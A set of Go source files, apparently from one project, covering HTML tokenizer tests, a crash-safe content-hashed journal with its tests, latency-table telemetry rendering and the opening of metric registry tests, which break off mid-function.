func TestTokenizeSimple(t *testing.T) {
	toks := collect(`<p class="x">hi</p>`)
	if len(toks) != 3 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[0].Type != StartTagToken || toks[0].Tag != "p" {
		t.Fatalf("tok0 = %+v", toks[0])
	}
	if v, ok := toks[0].Attr("class"); !ok || v != "x" {
		t.Fatalf("class attr = %q, %v", v, ok)
	}
	if toks[1].Type != TextToken || toks[1].Text != "hi" {
		t.Fatalf("tok1 = %+v", toks[1])
	}
	if toks[2].Type != EndTagToken || toks[2].Tag != "p" {
		t.Fatalf("tok2 = %+v", toks[2])
	}
}

func TestTokenizeAttributes(t *testing.T) {
	toks := collect(`<iframe src='http://a.com/x' width=300 sandbox allowfullscreen>`)
	if len(toks) != 1 {
		t.Fatalf("got %d tokens", len(toks))
	}
	tok := toks[0]
	cases := map[string]string{
		"src":             "http://a.com/x",
		"width":           "300",
		"sandbox":         "",
		"allowfullscreen": "",
	}
	for name, want := range cases {
		got, ok := tok.Attr(name)
		if !ok {
			t.Errorf("attribute %q missing", name)
		} else if got != want {
			t.Errorf("attribute %q = %q, want %q", name, got, want)
		}
	}
}

func TestTokenizeSelfClosing(t *testing.T) {
	toks := collect(`<br/><img src="a.png" />`)
	if len(toks) != 2 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[0].Type != SelfClosingTagToken || toks[0].Tag != "br" {
		t.Fatalf("tok0 = %+v", toks[0])
	}
	if toks[1].Type != SelfClosingTagToken || toks[1].Tag != "img" {
		t.Fatalf("tok1 = %+v", toks[1])
	}
}

func TestTokenizeScriptRawText(t *testing.T) {
	src := `<script>if (a < b) { document.write("<div>x</div>"); }</script>after`
	toks := collect(src)
	if len(toks) != 4 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[0].Tag != "script" {
		t.Fatalf("tok0 = %+v", toks[0])
	}
	want := `if (a < b) { document.write("<div>x</div>"); }`
	if toks[1].Type != TextToken || toks[1].Text != want {
		t.Fatalf("script body = %q", toks[1].Text)
	}
	if toks[2].Type != EndTagToken || toks[2].Tag != "script" {
		t.Fatalf("tok2 = %+v", toks[2])
	}
	if toks[3].Text != "after" {
		t.Fatalf("tok3 = %+v", toks[3])
	}
}

func TestTokenizeEmptyScript(t *testing.T) {
	toks := collect(`<script src="x.js"></script>`)
	if len(toks) != 2 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[1].Type != EndTagToken {
		t.Fatalf("tok1 = %+v", toks[1])
	}
}

func TestTokenizeUnterminatedScript(t *testing.T) {
	toks := collect(`<script>var x = 1;`)
	if len(toks) != 2 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[1].Text != "var x = 1;" {
		t.Fatalf("body = %q", toks[1].Text)
	}
}

func TestTokenizeComment(t *testing.T) {
	toks := collect(`a<!-- hidden <b> -->z`)
	if len(toks) != 3 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[1].Type != CommentToken || toks[1].Text != " hidden <b> " {
		t.Fatalf("comment = %+v", toks[1])
	}
}

func TestTokenizeDoctype(t *testing.T) {
	toks := collect(`<!DOCTYPE html><html></html>`)
	if toks[0].Type != DoctypeToken {
		t.Fatalf("tok0 = %+v", toks[0])
	}
}

func TestTokenizeCaseInsensitiveTags(t *testing.T) {
	toks := collect(`<DIV CLASS="Big">x</DIV>`)
	if toks[0].Tag != "div" {
		t.Fatalf("tag = %q", toks[0].Tag)
	}
	if v, _ := toks[0].Attr("class"); v != "Big" {
		t.Fatalf("attr value should keep case, got %q", v)
	}
}

func TestTokenizeEntities(t *testing.T) {
	toks := collect(`a &amp; b &lt;tag&gt; &#65; &#x42; &unknown; &`)
	if len(toks) != 1 {
		t.Fatalf("got %d tokens", len(toks))
	}
	want := "a & b <tag> A B &unknown; &"
	if toks[0].Text != want {
		t.Fatalf("text = %q, want %q", toks[0].Text, want)
	}
}

func TestTokenizeStrayLessThan(t *testing.T) {
	toks := collect(`1 < 2 and <b>bold</b>`)
	// "1 " text, "<" text, " 2 and " text, <b>, "bold", </b>
	var types []TokenType
	for _, tok := range toks {
		types = append(types, tok.Type)
	}
	if len(toks) != 6 {
		t.Fatalf("got %d tokens (%v): %v", len(toks), types, toks)
	}
	if toks[1].Type != TextToken || toks[1].Text != "<" {
		t.Fatalf("stray < not literal: %+v", toks[1])
	}
	if toks[3].Type != StartTagToken || toks[3].Tag != "b" {
		t.Fatalf("b tag missing: %+v", toks[3])
	}
}

func TestTokenizeMalformedAttrsTerminates(t *testing.T) {
	// Must not loop forever on garbage.
	srcs := []string{
		`<div ="x">`, `<a href=>`, `<p "">`, `<img src="unterminated`,
		`<`, `</`, `<>`, `<div`, `<!--unterminated`, `<!doctype`,
	}
	for _, src := range srcs {
		done := make(chan struct{})
		go func(s string) {
			collect(s)
			close(done)
		}(src)
		select {
		case <-done:
		default:
			// collect is synchronous; if goroutine hasn't finished give it a
			// moment via a trivial re-check below.
		}
		<-done
	}
}

func TestTokenTypeString(t *testing.T) {
	names := map[TokenType]string{
		ErrorToken: "Error", TextToken: "Text", StartTagToken: "StartTag",
		EndTagToken: "EndTag", SelfClosingTagToken: "SelfClosingTag",
		CommentToken: "Comment", DoctypeToken: "Doctype", TokenType(99): "Unknown",
	}
	for tt, want := range names {
		if tt.String() != want {
			t.Errorf("%d.String() = %q, want %q", tt, tt.String(), want)
		}
	}
}

func TestRawTextCaseInsensitiveClose(t *testing.T) {
	toks := collect(`<script>x</SCRIPT>done`)
	if len(toks) != 4 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[2].Type != EndTagToken || toks[2].Tag != "script" {
		t.Fatalf("tok2 = %+v", toks[2])
	}
}
