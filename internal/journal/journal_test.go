package journal

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

type rec struct {
	Seq int    `json:"seq"`
	Msg string `json:"msg"`
}

func replayAll(t *testing.T, b Backend) []rec {
	t.Helper()
	var out []rec
	err := Replay(b, func(r Record) error {
		if r.Kind != "visit" && r.Kind != "checkpoint" {
			t.Fatalf("unexpected kind %q", r.Kind)
		}
		var v rec
		if err := json.Unmarshal(r.Payload, &v); err != nil {
			return err
		}
		out = append(out, v)
		return nil
	})
	if err != nil {
		t.Fatalf("replay: %v", err)
	}
	return out
}

func TestMemRoundTrip(t *testing.T) {
	m := NewMem()
	l := NewLog(m)
	want := []rec{{1, "a"}, {2, "b"}, {3, "c"}}
	for _, r := range want {
		if err := l.Append("visit", r); err != nil {
			t.Fatal(err)
		}
	}
	if got := replayAll(t, m); !reflect.DeepEqual(got, want) {
		t.Fatalf("replay = %+v, want %+v", got, want)
	}
	if l.Appended() != 3 {
		t.Fatalf("Appended = %d", l.Appended())
	}
}

func TestMemInjectedCrashLeavesTornTail(t *testing.T) {
	m := NewMem()
	m.FailAfter = 2
	l := NewLog(m)
	if err := l.Append("visit", rec{1, "a"}); err != nil {
		t.Fatal(err)
	}
	if err := l.Append("visit", rec{2, "b"}); err != nil {
		t.Fatal(err)
	}
	if err := l.Append("visit", rec{3, "c"}); !errors.Is(err, ErrCrashed) {
		t.Fatalf("want ErrCrashed, got %v", err)
	}
	// Recovery sees only the two committed records; the torn half-frame of
	// record 3 is discarded, and appending after recovery works.
	m.Reopen(0)
	if got := replayAll(t, m); !reflect.DeepEqual(got, []rec{{1, "a"}, {2, "b"}}) {
		t.Fatalf("replay after crash = %+v", got)
	}
	if err := NewLog(m).Append("visit", rec{3, "c2"}); err != nil {
		t.Fatal(err)
	}
	if got := replayAll(t, m); !reflect.DeepEqual(got, []rec{{1, "a"}, {2, "b"}, {3, "c2"}}) {
		t.Fatalf("replay after recovery append = %+v", got)
	}
}

func TestFileRoundTripAcrossReopen(t *testing.T) {
	path := filepath.Join(t.TempDir(), "study.wal")
	b, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	l := NewLog(b)
	want := []rec{{1, "a"}, {2, "b"}}
	for _, r := range want {
		if err := l.Append("visit", r); err != nil {
			t.Fatal(err)
		}
	}
	if got := replayAll(t, b); !reflect.DeepEqual(got, want) {
		t.Fatalf("replay = %+v", got)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}

	b2, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b2.Close()
	if got := replayAll(t, b2); !reflect.DeepEqual(got, want) {
		t.Fatalf("replay after reopen = %+v", got)
	}
	if err := NewLog(b2).Append("visit", rec{3, "c"}); err != nil {
		t.Fatal(err)
	}
	if got := replayAll(t, b2); len(got) != 3 || got[2] != (rec{3, "c"}) {
		t.Fatalf("replay after reopen append = %+v", got)
	}
}

// TestFileTornTailTruncated simulates a process killed mid-Append: the file
// ends with a partial frame. OpenFile must truncate it and recover every
// intact record, and new appends must not splice into garbage.
func TestFileTornTailTruncated(t *testing.T) {
	path := filepath.Join(t.TempDir(), "study.wal")
	b, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	l := NewLog(b)
	for i := 1; i <= 3; i++ {
		if err := l.Append("visit", rec{i, "x"}); err != nil {
			t.Fatal(err)
		}
	}
	b.Close()

	// Tear the last record at several cut points, including "newline kept
	// but bytes corrupted" and "half the line gone".
	whole, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	extra := frameBytes(t, 4)
	for _, cut := range []int{1, len(extra) / 2, len(extra) - 1} {
		torn := append(append([]byte(nil), whole...), extra[:cut]...)
		if err := os.WriteFile(path, torn, 0o644); err != nil {
			t.Fatal(err)
		}
		b2, err := OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		got := replayAll(t, b2)
		if len(got) != 3 {
			t.Fatalf("cut %d: recovered %d records, want 3", cut, len(got))
		}
		if err := NewLog(b2).Append("visit", rec{5, "after"}); err != nil {
			t.Fatal(err)
		}
		if got := replayAll(t, b2); len(got) != 4 || got[3] != (rec{5, "after"}) {
			t.Fatalf("cut %d: append after recovery = %+v", cut, got)
		}
		b2.Close()
		if err := os.WriteFile(path, whole, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestFileCorruptTailBitFlip: an intact-length line whose bytes were
// damaged fails its content hash and is discarded like a torn line.
func TestFileCorruptTailBitFlip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "study.wal")
	b, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	l := NewLog(b)
	for i := 1; i <= 2; i++ {
		if err := l.Append("visit", rec{i, "x"}); err != nil {
			t.Fatal(err)
		}
	}
	b.Close()
	raw, _ := os.ReadFile(path)
	raw[len(raw)-3] ^= 0x40 // flip a bit inside the last record's payload
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	b2, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b2.Close()
	if got := replayAll(t, b2); len(got) != 1 || got[0] != (rec{1, "x"}) {
		t.Fatalf("recovered %+v, want just record 1", got)
	}
}

func TestCompact(t *testing.T) {
	path := filepath.Join(t.TempDir(), "study.wal")
	b, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	l := NewLog(b)
	for i := 1; i <= 10; i++ {
		if err := l.Append("visit", rec{i, "x"}); err != nil {
			t.Fatal(err)
		}
	}
	b.Close()

	cp, _ := json.Marshal(rec{100, "checkpoint"})
	tail, _ := json.Marshal(rec{10, "x"})
	if err := Compact(path, []Record{
		{Kind: "checkpoint", Payload: cp},
		{Kind: "visit", Payload: tail},
	}); err != nil {
		t.Fatal(err)
	}
	b2, err := OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b2.Close()
	got := replayAll(t, b2)
	if len(got) != 2 || got[0].Seq != 100 || got[1].Seq != 10 {
		t.Fatalf("compacted replay = %+v", got)
	}
}

func frameBytes(t *testing.T, seq int) []byte {
	t.Helper()
	payload, _ := json.Marshal(rec{seq, "torn"})
	return frame("visit", payload)
}

func TestFrameRejectsBadKind(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("frame accepted a kind with a space")
		}
	}()
	frame("bad kind", []byte("{}"))
}
