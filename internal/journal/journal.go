// Package journal is the crash-safety substrate of the streaming study
// service: an append-only write-ahead log of content-hashed records plus
// periodic checkpoint records, with an in-memory backend (tests, soaks) and
// a file backend (the -checkpoint flag).
//
// The contract the streaming pipeline builds on:
//
//   - Append is the commit point. A record that Append returned nil for is
//     durable for this process lifetime (file writes are flushed to the OS,
//     fsync-free: the layer protects against process death, not power loss —
//     the same budget the paper's crawler operated under, where a crashed
//     crawler resumed from its database).
//   - Every record carries a truncated SHA-256 of its body. Opening a file
//     journal validates records in order and truncates the log at the first
//     torn or corrupt line (a crash mid-Append), so a half-written tail can
//     never be replayed as data and never corrupts framing for subsequent
//     appends.
//   - Replay hands records back in append order. Consumers fold them with
//     commutative state transitions, so a log written by any worker
//     interleaving replays to the same state.
package journal

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"sync"
)

// hashLen is the number of hex characters of the record body's SHA-256 kept
// in the frame. 16 hex chars (64 bits) makes an accidental collision with a
// torn line astronomically unlikely while keeping frames compact.
const hashLen = 16

// Record is one journal entry: a kind tag plus an opaque JSON payload.
type Record struct {
	Kind    string
	Payload json.RawMessage
}

// ErrCorrupt reports a record frame that failed validation somewhere other
// than the tail of the log (interior corruption cannot be repaired by
// truncation and is surfaced instead of silently dropped).
var ErrCorrupt = errors.New("journal: corrupt record")

// Backend is the storage a Log appends to. Implementations must make
// Append atomic with respect to ReadAll of a *reopened* backend: a torn
// append is detected and discarded, never returned as a record.
type Backend interface {
	// Append durably stores one framed record.
	Append(frame []byte) error
	// ReadAll returns every intact frame in append order.
	ReadAll() ([][]byte, error)
	// Close releases resources. A closed backend rejects further appends.
	Close() error
}

// frame encodes a record as one line:
//
//	<16 hex hash> <kind> <payload JSON>\n
//
// The hash covers "<kind> <payload>". Line framing keeps the file greppable
// and makes torn-tail detection trivial: a line without a newline, or whose
// hash does not match, is a crashed append.
func frame(kind string, payload []byte) []byte {
	if strings.ContainsAny(kind, " \n") {
		panic("journal: record kind must not contain spaces or newlines")
	}
	var b bytes.Buffer
	b.Grow(hashLen + 1 + len(kind) + 1 + len(payload) + 1)
	sum := sha256.New()
	sum.Write([]byte(kind))
	sum.Write([]byte{' '})
	sum.Write(payload)
	b.WriteString(hex.EncodeToString(sum.Sum(nil))[:hashLen])
	b.WriteByte(' ')
	b.WriteString(kind)
	b.WriteByte(' ')
	b.Write(payload)
	b.WriteByte('\n')
	return b.Bytes()
}

// parseFrame validates one line (without its trailing newline) and returns
// the record, or false when the line is torn/corrupt.
func parseFrame(line []byte) (Record, bool) {
	if len(line) < hashLen+2 || line[hashLen] != ' ' {
		return Record{}, false
	}
	wantHash := string(line[:hashLen])
	rest := line[hashLen+1:]
	sp := bytes.IndexByte(rest, ' ')
	if sp <= 0 {
		return Record{}, false
	}
	sum := sha256.Sum256(rest)
	if hex.EncodeToString(sum[:])[:hashLen] != wantHash {
		return Record{}, false
	}
	payload := make([]byte, len(rest)-sp-1)
	copy(payload, rest[sp+1:])
	return Record{Kind: string(rest[:sp]), Payload: payload}, true
}

// Compactor is implemented by backends that can atomically replace their
// entire contents with a checkpoint-plus-tail record set while staying open
// for appends, bounding log growth without a close/reopen dance.
type Compactor interface {
	CompactTo(recs []Record) error
}

// Mem is an in-memory backend. It survives as long as the caller holds it —
// the kill-recover soaks "crash" a pipeline while keeping the Mem journal,
// exactly like a process dying while its file survives.
type Mem struct {
	mu     sync.Mutex
	frames [][]byte
	closed bool
	// FailAfter, when positive, makes Append fail (simulating a crash at
	// the commit point) once that many successful appends have happened.
	// The failing append writes a deliberately torn prefix of its frame
	// first, so recovery code sees exactly what a mid-write kill leaves.
	FailAfter int
	appended  int
}

// ErrCrashed is returned by a backend whose injected crash point was hit.
var ErrCrashed = errors.New("journal: simulated crash during append")

// NewMem returns an empty in-memory backend.
func NewMem() *Mem { return &Mem{} }

// Append implements Backend.
func (m *Mem) Append(frame []byte) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return errors.New("journal: append to closed backend")
	}
	if m.FailAfter > 0 && m.appended >= m.FailAfter {
		// Tear the frame: keep a prefix that parseFrame must reject.
		if len(frame) > 2 {
			torn := make([]byte, len(frame)/2)
			copy(torn, frame)
			m.frames = append(m.frames, torn)
		}
		return ErrCrashed
	}
	cp := make([]byte, len(frame))
	copy(cp, frame)
	m.frames = append(m.frames, cp)
	m.appended++
	return nil
}

// ReadAll implements Backend: intact frames up to the first torn one.
func (m *Mem) ReadAll() ([][]byte, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([][]byte, 0, len(m.frames))
	for _, f := range m.frames {
		if len(f) == 0 || f[len(f)-1] != '\n' {
			break // torn tail from an injected crash
		}
		if _, ok := parseFrame(f[:len(f)-1]); !ok {
			break
		}
		out = append(out, f)
	}
	// Discard the torn tail so the next append does not splice into it,
	// mirroring the file backend's truncate-on-open.
	m.frames = m.frames[:len(out):len(out)]
	return out, nil
}

// CompactTo implements Compactor: the backend's contents are replaced
// wholesale. Crash injection does not apply — compaction replaces history
// atomically or not at all, mirroring the file backend's rename.
func (m *Mem) CompactTo(recs []Record) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return errors.New("journal: compact of closed backend")
	}
	frames := make([][]byte, 0, len(recs))
	for _, r := range recs {
		frames = append(frames, frame(r.Kind, r.Payload))
	}
	m.frames = frames
	return nil
}

// Reopen clears the injected crash point and reopens a "crashed" backend
// for the next recovery attempt, like reopening the file after a kill.
func (m *Mem) Reopen(failAfter int) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.closed = false
	m.FailAfter = failAfter
	m.appended = 0
}

// Close implements Backend.
func (m *Mem) Close() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.closed = true
	return nil
}

// File is the on-disk backend: one frame per line, flushed (not fsynced)
// per append.
type File struct {
	mu   sync.Mutex
	f    *os.File
	w    *bufio.Writer
	path string
}

// OpenFile opens (or creates) a file journal. Any torn or corrupt tail from
// a previous crash is truncated away before the journal accepts appends, so
// recovery and subsequent writes always operate on an intact log.
func OpenFile(path string) (*File, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	valid, err := scanValid(f)
	if err != nil {
		f.Close()
		return nil, err
	}
	if err := f.Truncate(valid); err != nil {
		f.Close()
		return nil, fmt.Errorf("journal: truncating torn tail of %s: %w", path, err)
	}
	if _, err := f.Seek(valid, io.SeekStart); err != nil {
		f.Close()
		return nil, err
	}
	return &File{f: f, w: bufio.NewWriter(f), path: path}, nil
}

// scanValid returns the byte offset of the end of the last intact record.
func scanValid(f *os.File) (int64, error) {
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		return 0, err
	}
	r := bufio.NewReader(f)
	var valid int64
	for {
		line, err := r.ReadBytes('\n')
		if err == nil {
			if _, ok := parseFrame(line[:len(line)-1]); ok {
				valid += int64(len(line))
				continue
			}
		} else if err != io.EOF {
			return 0, err
		}
		// Torn (no newline), corrupt, or EOF: stop at the last intact record.
		return valid, nil
	}
}

// Path returns the journal file's path.
func (b *File) Path() string { return b.path }

// Append implements Backend.
func (b *File) Append(frame []byte) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.f == nil {
		return errors.New("journal: append to closed backend")
	}
	if _, err := b.w.Write(frame); err != nil {
		return err
	}
	// Flush per append: the OS page cache is our durability domain
	// (process-crash safety), and a partially flushed line is exactly the
	// torn tail OpenFile knows how to discard.
	return b.w.Flush()
}

// ReadAll implements Backend. It re-reads the file from the start; the open
// handle's write position is restored afterwards.
func (b *File) ReadAll() ([][]byte, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.f == nil {
		return nil, errors.New("journal: read from closed backend")
	}
	if err := b.w.Flush(); err != nil {
		return nil, err
	}
	pos, err := b.f.Seek(0, io.SeekCurrent)
	if err != nil {
		return nil, err
	}
	if _, err := b.f.Seek(0, io.SeekStart); err != nil {
		return nil, err
	}
	var out [][]byte
	r := bufio.NewReader(b.f)
	var read int64
	for read < pos {
		line, err := r.ReadBytes('\n')
		if err != nil {
			return nil, fmt.Errorf("journal: short read of own log: %w", err)
		}
		read += int64(len(line))
		out = append(out, line)
	}
	if _, err := b.f.Seek(pos, io.SeekStart); err != nil {
		return nil, err
	}
	return out, nil
}

// CompactTo implements Compactor for an open file journal: the log is
// rewritten via Compact's temp-file + rename, then the open handle is moved
// to the new file so subsequent appends land after the checkpoint.
func (b *File) CompactTo(recs []Record) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.f == nil {
		return errors.New("journal: compact of closed backend")
	}
	if err := b.w.Flush(); err != nil {
		return err
	}
	if err := Compact(b.path, recs); err != nil {
		return err
	}
	// The old handle now points at the unlinked pre-compaction inode; swap
	// in the replacement and seek to its end for appends.
	f, err := os.OpenFile(b.path, os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return err
	}
	b.f.Close()
	b.f = f
	b.w = bufio.NewWriter(f)
	return nil
}

// Close implements Backend.
func (b *File) Close() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.f == nil {
		return nil
	}
	err := b.w.Flush()
	if cerr := b.f.Close(); err == nil {
		err = cerr
	}
	b.f = nil
	return err
}

// Log is the typed journal the stream service writes: JSON payloads framed
// with content hashes over a Backend.
type Log struct {
	mu sync.Mutex
	b  Backend
	n  int64
}

// NewLog wraps a backend.
func NewLog(b Backend) *Log { return &Log{b: b} }

// Append marshals v and commits one record. The record is the commit point:
// when Append returns nil the record will be visible to every future Replay
// of this backend.
func (l *Log) Append(kind string, v any) error {
	payload, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("journal: marshal %s record: %w", kind, err)
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if err := l.b.Append(frame(kind, payload)); err != nil {
		return err
	}
	l.n++
	return nil
}

// Appended returns how many records this Log instance has committed (not
// counting records already present at open).
func (l *Log) Appended() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.n
}

// Replay reads every intact record of a backend in append order and hands
// each to fn. A nil error from every fn call means the full log replayed.
func Replay(b Backend, fn func(Record) error) error {
	frames, err := b.ReadAll()
	if err != nil {
		return err
	}
	for i, fr := range frames {
		if len(fr) == 0 || fr[len(fr)-1] != '\n' {
			return fmt.Errorf("%w: frame %d unterminated", ErrCorrupt, i)
		}
		rec, ok := parseFrame(fr[:len(fr)-1])
		if !ok {
			return fmt.Errorf("%w: frame %d", ErrCorrupt, i)
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return nil
}

// Compact rewrites a file journal to contain only the given records
// (typically one checkpoint plus its tail), bounding log growth. The
// rewrite goes through a temp file + rename so a crash mid-compaction
// leaves either the old or the new log, never a mix.
func Compact(path string, recs []Record) error {
	tmp := path + ".compact"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	w := bufio.NewWriter(f)
	for _, r := range recs {
		if _, err := w.Write(frame(r.Kind, r.Payload)); err != nil {
			f.Close()
			os.Remove(tmp)
			return err
		}
	}
	if err := w.Flush(); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Sync(); err != nil { // the one fsync: compaction replaces history
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, path)
}
