package telemetry

import (
	"fmt"
	"strings"
)

// LatencyTable renders the per-stage latency table (count, p50, p90, p99,
// mean) from the set's stage histograms, in pipeline order, skipping stages
// with no observations. Streaming-service stages follow the batch stages
// when the stream ran, and stages instrumented with queue-depth/in-flight
// high-water gauges (the stream runtime's stream_queue_depth_max /
// stream_inflight_max) get those surfaced in two extra columns — batch
// stages, which have no queues, show "-". It returns "" when nothing was
// observed, so callers can print the result unconditionally.
func (s *Set) LatencyTable() string {
	if s == nil {
		return ""
	}
	type row struct {
		stage               string
		count               int64
		p50, p90, p99, mean float64
		qmax, inflmax       string
	}
	var rows []row
	hasGauges := false
	for _, stage := range append(Stages(), StreamStages()...) {
		h, ok := s.Registry.HistogramIf(StageHistName, L("stage", stage))
		if !ok {
			continue
		}
		n := h.Count()
		if n == 0 {
			continue
		}
		r := row{
			stage: stage,
			count: n,
			p50:   h.Quantile(0.50),
			p90:   h.Quantile(0.90),
			p99:   h.Quantile(0.99),
			mean:  h.Sum() / float64(n),
			qmax:  "-", inflmax: "-",
		}
		// Stream stage gauges are labeled with the short stage name the
		// runtime was given ("crawl", not "stream.crawl").
		short := strings.TrimPrefix(stage, "stream.")
		if v, ok := s.Registry.GaugeValue("stream_queue_depth_max", L("stage", short)); ok {
			r.qmax = fmt.Sprintf("%d", v)
			hasGauges = true
		}
		if v, ok := s.Registry.GaugeValue("stream_inflight_max", L("stage", short)); ok {
			r.inflmax = fmt.Sprintf("%d", v)
			hasGauges = true
		}
		rows = append(rows, r)
	}
	if len(rows) == 0 {
		return ""
	}
	var b strings.Builder
	b.WriteString("Per-stage latency (bucketed estimates)\n")
	if hasGauges {
		fmt.Fprintf(&b, "  %-20s %10s %10s %10s %10s %10s %7s %7s\n",
			"stage", "count", "p50", "p90", "p99", "mean", "q.max", "inf.max")
	} else {
		fmt.Fprintf(&b, "  %-20s %10s %10s %10s %10s %10s\n",
			"stage", "count", "p50", "p90", "p99", "mean")
	}
	for _, r := range rows {
		if hasGauges {
			fmt.Fprintf(&b, "  %-20s %10d %10s %10s %10s %10s %7s %7s\n",
				r.stage, r.count,
				fmtDuration(r.p50), fmtDuration(r.p90), fmtDuration(r.p99), fmtDuration(r.mean),
				r.qmax, r.inflmax)
		} else {
			fmt.Fprintf(&b, "  %-20s %10d %10s %10s %10s %10s\n",
				r.stage, r.count,
				fmtDuration(r.p50), fmtDuration(r.p90), fmtDuration(r.p99), fmtDuration(r.mean))
		}
	}
	return b.String()
}
