package telemetry

import (
	"fmt"
	"strings"
)

// LatencyTable renders the per-stage latency table (count, p50, p90, p99,
// mean) from the set's stage histograms, in pipeline order, skipping stages
// with no observations. It returns "" when nothing was observed — callers
// can print the result unconditionally.
func (s *Set) LatencyTable() string {
	if s == nil {
		return ""
	}
	type row struct {
		stage               string
		count               int64
		p50, p90, p99, mean float64
	}
	var rows []row
	for _, stage := range Stages() {
		h := s.StageHist(stage)
		n := h.Count()
		if n == 0 {
			continue
		}
		rows = append(rows, row{
			stage: stage,
			count: n,
			p50:   h.Quantile(0.50),
			p90:   h.Quantile(0.90),
			p99:   h.Quantile(0.99),
			mean:  h.Sum() / float64(n),
		})
	}
	if len(rows) == 0 {
		return ""
	}
	var b strings.Builder
	b.WriteString("Per-stage latency (bucketed estimates)\n")
	fmt.Fprintf(&b, "  %-20s %10s %10s %10s %10s %10s\n",
		"stage", "count", "p50", "p90", "p99", "mean")
	for _, r := range rows {
		fmt.Fprintf(&b, "  %-20s %10d %10s %10s %10s %10s\n",
			r.stage, r.count,
			fmtDuration(r.p50), fmtDuration(r.p90), fmtDuration(r.p99), fmtDuration(r.mean))
	}
	return b.String()
}
