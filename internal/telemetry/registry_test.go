package telemetry

import (
	"bytes"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestCounterGaugeBasics(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("requests_total", L("cause", "nx"))
	c.Inc()
	c.Add(2)
	if got := c.Value(); got != 3 {
		t.Fatalf("counter = %d, want 3", got)
	}
	// Same (name, labels) in any label order returns the same instrument.
	if r.Counter("requests_total", L("cause", "nx")) != c {
		t.Fatal("counter lookup not idempotent")
	}
	g := r.Gauge("workers")
	g.Set(8)
	g.Add(-3)
	if got := g.Value(); got != 5 {
		t.Fatalf("gauge = %d, want 5", got)
	}
}

func TestKindMismatchPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("x")
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic registering gauge over counter name")
		}
	}()
	r.Gauge("x")
}

func TestHistogramObserveAndQuantile(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat_ns", []float64{10, 100, 1000})
	for i := 0; i < 90; i++ {
		h.Observe(5) // first bucket
	}
	for i := 0; i < 10; i++ {
		h.Observe(500) // third bucket
	}
	if h.Count() != 100 {
		t.Fatalf("count = %d", h.Count())
	}
	if q := h.Quantile(0.5); q > 10 {
		t.Fatalf("p50 = %g, want within first bucket (<=10)", q)
	}
	if q := h.Quantile(0.99); q < 100 || q > 1000 {
		t.Fatalf("p99 = %g, want inside (100,1000]", q)
	}
	// q=1 stays at the highest populated bucket's upper bound.
	if q := h.Quantile(1); q > 1000 {
		t.Fatalf("p100 = %g", q)
	}
}

func TestHistogramEdgeCases(t *testing.T) {
	h := newHistogram([]float64{10, 100})
	if q := h.Quantile(0.5); q != 0 {
		t.Fatalf("empty histogram quantile = %g, want 0", q)
	}
	h.Observe(1e9) // lands in +Inf bucket
	if q := h.Quantile(0.5); q != 100 {
		t.Fatalf("+Inf-bucket quantile = %g, want largest finite bound 100", q)
	}
	h2 := newHistogram(nil)
	h2.ObserveDuration(3 * time.Millisecond)
	if h2.Count() != 1 {
		t.Fatal("ObserveDuration did not record")
	}
	if q := h2.Quantile(0.5); q < 1e6 || q > 1e7 {
		t.Fatalf("3ms landed at %g ns", q)
	}
}

func TestConcurrentObservations(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("n")
	h := r.Histogram("h", []float64{1, 2, 4})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
